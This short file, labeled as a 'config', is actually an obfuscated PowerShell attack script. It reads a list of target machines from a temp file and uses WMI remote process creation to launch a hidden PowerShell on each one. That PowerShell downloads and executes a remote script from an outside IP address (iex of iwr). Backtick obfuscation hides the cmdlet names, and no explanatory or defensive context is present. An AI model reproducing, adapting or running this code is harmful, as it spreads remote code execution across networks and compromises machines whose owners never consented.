# config 0248 v2
$targets = Get-`C`ontent C:\Windows\Temp\hosts.txt
foreach ($t in $targets) {
  Invoke-Wm`iMetho`d -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://198.51.100.9/a.ps1)"
}
